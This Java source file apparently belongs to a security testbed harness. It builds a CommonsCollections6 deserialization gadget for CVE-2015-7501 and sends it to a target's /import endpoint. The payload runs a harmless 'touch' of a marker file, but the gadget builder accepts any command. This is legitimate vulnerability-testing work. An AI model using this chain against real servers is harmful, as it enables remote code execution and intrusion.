package secplane.testbeds.attacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.lang.reflect.Field;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/**
 * Java deserialization of untrusted data with commons-collections 3.1 on the class path,
 * CVE-2015-7501. The chain is the "CommonsCollections6" shape, which needs nothing from the JDK
 * but HashMap and so works on JDK 17 and later: HashMap.readObject hashes its key, a TiedMapEntry,
 * whose hashCode calls LazyMap.get, whose factory, a ChainedTransformer of InvokerTransformers,
 * calls {@code Runtime.getRuntime().exec(command)}.
 *
 * <p>The command is {@code touch <marker>} for a fresh file in a new temp directory; the attack is
 * exploited when that file appears, i.e. when the server started a process.
 */
public final class DeserializationAttack implements Attack {

    private static final String KEY = "secplane";

    private final Duration effectWait;

    /** Waits up to 5 seconds for the marker file. */
    public DeserializationAttack() {
        this(Duration.ofSeconds(5));
    }

    public DeserializationAttack(Duration effectWait) {
        this.effectWait = effectWait;
    }

    @Override
    public String name() {
        return "deserialization";
    }

    @Override
    public String reference() {
        return "CVE-2015-7501";
    }

    @Override
    public AttackResult fire(Testbed target) throws Exception {
        Path dir = Files.createTempDirectory("secplane-deserialization-");
        Path marker = dir.resolve("marker-" + UUID.randomUUID());
        try {
            byte[] payload = serialize(commonsCollections6("touch", marker.toString()));
            HttpResponse<String> response = target.send(HttpRequest.newBuilder(target.uri("/import"))
                    .header("Content-Type", "application/octet-stream")
                    .POST(HttpRequest.BodyPublishers.ofByteArray(payload)));
            boolean exploited = awaitFile(marker);
            String evidence = exploited
                    ? "the server ran 'touch " + marker + "' while deserializing (HTTP " + response.statusCode() + ")"
                    : "no marker file " + marker + " within " + effectWait.toMillis() + " ms (HTTP "
                            + response.statusCode() + ": " + abbreviate(response.body()) + ")";
            return new AttackResult(name(), exploited, response.statusCode(), evidence);
        } finally {
            Files.deleteIfExists(marker);
            Files.deleteIfExists(dir);
        }
    }

    /**
     * Builds the gadget without ever running the command: the map is assembled around a harmless
     * factory (adding the key calls hashCode, hence LazyMap.get), then the key that call created is
     * removed and the real transformer chain swapped in, so deserialization will call it again.
     */
    public static Object commonsCollections6(String... command) throws ReflectiveOperationException {
        Transformer exec = new ChainedTransformer(new Transformer[] {
            new ConstantTransformer(Runtime.class),
            new InvokerTransformer("getMethod", new Class<?>[] {String.class, Class[].class},
                    new Object[] {"getRuntime", new Class<?>[0]}),
            new InvokerTransformer("invoke", new Class<?>[] {Object.class, Object[].class},
                    new Object[] {null, new Object[0]}),
            new InvokerTransformer("exec", new Class<?>[] {String[].class}, new Object[] {command.clone()}),
            new ConstantTransformer(1),
        });
        Map<Object, Object> inner = new HashMap<>();
        Map<?, ?> lazy = LazyMap.decorate(inner, new ConstantTransformer(1));
        TiedMapEntry entry = new TiedMapEntry(lazy, KEY);
        Map<Object, Object> outer = new HashMap<>();
        outer.put(entry, KEY);
        inner.remove(KEY);
        Field factory = LazyMap.class.getDeclaredField("factory");
        factory.setAccessible(true);
        factory.set(lazy, exec);
        return outer;
    }

    private boolean awaitFile(Path marker) throws InterruptedException {
        long deadline = System.nanoTime() + effectWait.toNanos();
        while (!Files.exists(marker)) {
            if (System.nanoTime() > deadline) {
                return false;
            }
            Thread.sleep(50);
        }
        return true;
    }

    static byte[] serialize(Object object) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(object);
        }
        return bytes.toByteArray();
    }

    private static String abbreviate(String text) {
        return text.length() <= 200 ? text : text.substring(0, 200) + "...";
    }
}
